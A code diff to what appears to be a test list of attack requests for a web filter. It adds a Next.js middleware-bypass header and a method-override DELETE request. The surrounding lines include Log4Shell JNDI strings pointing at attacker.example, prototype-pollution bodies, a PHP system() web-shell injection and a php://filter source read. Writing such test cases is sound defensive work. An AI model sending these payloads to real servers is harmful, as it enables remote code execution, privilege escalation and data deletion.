@@ -23,6 +23,8 @@ const ATTACKS = [
   ['Log4Shell in the query', rawReq({ target: `/search?q=${enc('${jndi:ldap://attacker.example/a}')}` })],
   ['Log4Shell in User-Agent', rawReq({ headers: { 'User-Agent': '${jndi:ldap://attacker.example/a}' } })],
   ['Node prototype pollution in the query (constructor[prototype])', rawReq({ target: '/api/settings?constructor[prototype][isAdmin]=1' })],
+  ['Next.js middleware bypass header (CVE-2025-29927)', rawReq({ target: '/admin', headers: { 'X-Middleware-Subrequest': 'middleware:middleware:middleware:middleware:middleware' } })],
+  ['method override header turning a POST into DELETE', rawReq({ method: 'POST', target: '/api/users/1', headers: { ...FORM, 'X-HTTP-Method-Override': 'DELETE' }, body: 'a=1' })],
   ['PHP code injection', rawReq({ method: 'POST', target: '/x', headers: FORM, body: `code=${enc('<?php system($_GET["c"]); ?>')}` })],
   ['PHP wrapper', rawReq({ target: `/page?inc=${enc('php://filter/convert.base64-encode/resource=index.php')}` })],
   ['Node prototype pollution', rawReq({ method: 'POST', target: '/api', headers: JSONH, body: '{"__proto__":{"isAdmin":true}}' })],
